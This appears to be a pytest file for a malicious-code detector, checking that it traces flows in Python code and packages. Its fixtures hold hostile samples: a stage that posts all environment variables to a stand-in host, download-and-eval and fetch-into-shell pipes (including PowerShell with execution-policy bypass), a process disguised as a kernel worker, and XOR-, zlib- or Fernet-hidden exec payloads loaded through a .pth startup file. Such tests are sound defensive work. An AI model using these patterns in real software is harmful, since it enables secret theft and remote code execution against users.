"""Deeds by less usual doors of Python: what stands behind a lookup, a descriptor, a key, a branch is still told."""

import base64
import zlib

import pytest
from cryptography.fernet import Fernet
from reading import package, seen, short

STAGE = "import os, urllib.request\nurllib.request.urlopen('https://c.example/x', repr(dict(os.environ)).encode())\n"


@pytest.mark.parametrize(
    "found", ["shutil.which('node')", "shutil.which('node') or shutil.which('nodejs')", "find()"]
)
def test_a_program_that_is_looked_up_is_the_one_that_was_looked_for(found: str) -> None:
    code = f"""import shutil, subprocess
def find():
    return shutil.which("node")
subprocess.Popen([{found}, "-e", "require('https').get('https://c.example/p', r => {{let b=''; r.on('data', c => b += c).on('end', () => eval(b))}})"])
"""
    assert "code.flow network > execution" in short(seen(code))


def test_a_program_is_the_path_that_is_executed_and_not_what_it_calls_itself() -> None:
    code = 'import os\nos.execve("/tmp/.x", ["[kworker/0:1]"], dict(os.environ))\n'
    assert "process.exec /tmp/.x" in short(seen(code))


def test_of_a_command_that_differs_by_platform_every_form_is_told() -> None:
    code = """import os, subprocess
if os.name == "nt":
    command = ["cmd", "/c", "ver"]
else:
    command = ["/bin/uname", "-a"]
subprocess.run(command)
"""
    assert {"process.exec cmd /c ver", "process.exec /bin/uname -a"} <= short(seen(code))


FED = {
    "a shell of one of two platforms": '["powershell", "-NoP", "-Exec", "Bypass", "-Command", "-"] if os.name == "nt" else ["/bin/sh", "-s"]',
    "powershell": '["powershell.exe", "-NoProfile", "-Command", "-"]',
    "powershell without words": '["powershell"]',
}


@pytest.mark.parametrize("command", FED.values(), ids=FED.keys())
def test_what_is_fetched_and_written_to_the_input_of_a_shell_is_run(command: str) -> None:
    code = f"""import os, subprocess, urllib.request
text = urllib.request.urlopen("https://c.example/stage").read()
child = subprocess.Popen({command}, stdin=subprocess.PIPE)
child.stdin.write(text)
"""
    assert "code.flow network > execution" in short(seen(code))


def test_what_powershell_is_told_by_its_words_it_does_not_take_from_its_input() -> None:
    code = """import subprocess, urllib.request
text = urllib.request.urlopen("https://c.example/stage").read()
subprocess.run(["powershell", "-NoProfile", "-Command", "$input | Out-File a.txt"], input=text)
"""
    assert "code.flow network > execution" not in short(seen(code))


def test_a_file_of_the_package_is_known_where_only_the_folder_of_all_packages_is_not() -> None:
    start = "import os, sys, zlib; p = os.path.join(sys._getframe(1).f_locals['sitedir'], 'pkg', 'x.dat'); exec(zlib.decompress(bytes(b ^ 7 for b in open(p, 'rb').read())))"
    files = {
        "a.pth": start,
        "pkg/__init__.py": "",
        "pkg/x.dat": bytes(b ^ 7 for b in zlib.compress(STAGE.encode())),
    }
    assert "code.flow env:* > network" in short(package(files))


def test_a_name_alone_below_an_unknown_folder_is_no_file_of_the_package() -> None:
    files = {"pkg/__init__.py": "import os, sys\nexec(open(os.path.join(sys.argv[1], 'x.txt')).read())\n",
             "x.txt": STAGE}  # fmt: skip
    assert "code.flow env:* > network" not in short(package(files))


def test_what_is_enciphered_beside_its_key_is_read() -> None:
    key = base64.urlsafe_b64encode(bytes(range(32)))
    token = Fernet(key).encrypt(STAGE.encode())
    code = f"""def run():
    from cryptography.fernet import Fernet as f
    exec(f({key!r}).decrypt({token!r}))
run()
"""
    assert "code.flow env:* > network" in short(seen(code))


def test_what_is_enciphered_under_a_key_that_is_not_known_stays_so() -> None:
    token = Fernet(Fernet.generate_key()).encrypt(STAGE.encode())
    code = (
        f"from cryptography.fernet import Fernet\nimport sys\nexec(Fernet(sys.argv[1]).decrypt({token!r}))\n"
    )
    assert "code.flow env:* > network" not in short(seen(code))
